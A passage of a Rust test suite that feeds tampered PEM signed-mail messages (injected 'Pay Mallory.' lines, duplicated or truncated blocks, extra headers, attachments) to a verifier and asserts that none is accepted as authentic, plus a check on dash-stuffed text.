    for (name, message) in [
        ("text before", mail(&format!("Pay Mallory.\r\n{block}"))),
        ("text after", mail(&format!("{block}Pay Mallory.\r\n"))),
        ("twice", mail(&block.repeat(2))),
        ("a boundary of no type before", mail(&format!("{}{block}", pem("Proc-Type: 4,NEWS\r\n", "Pay Mallory.\r\n")))),
        (
            "a boundary within",
            mail(&block.replace("Alice\r\n", "-----BEGIN PRIVACY-ENHANCED MESSAGE-----\r\nAlice\r\n")),
        ),
        ("HTML", format!("From: alice@example.org\r\n{text_of_block}{block}")),
        (
            "an attachment",
            format!(
                "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nPay Mallory.\r\n--b\r\n\r\n\
                 {block}\r\n--b--\r\n"
            ),
        ),
        ("no end", mail(block.split_once("-----END").unwrap().0)),
        ("two Proc-Types", mail(&pem(&format!("Proc-Type: 4,MIC-CLEAR\r\n{header}"), &text))),
        ("a line more", mail(&pem(&header, &format!("{text}Pay Mallory.\r\n")))),
        ("as a file", block.clone()),
    ] {
        assert_ne!(standing(&message), Standing::Authentic, "{name}");
    }
    // Unnecessary dashes are removed like necessary ones, and the signed text is written. A reader without PEM shows them, as a
    // minus sign it may be: the message has no author.
    let stuffed = judged_pem(&header, &format!("- {text}"));
    assert_eq!(stuffed.verdict().standing(), Standing::Signed);
    assert_eq!(written(&stuffed), written(&judged_pem(&header, &text)));
    assert!(written(&stuffed).ends_with("The bearer may pass.\r\n-- \r\nAlice\r\n"), "{:?}", written(&stuffed));
}
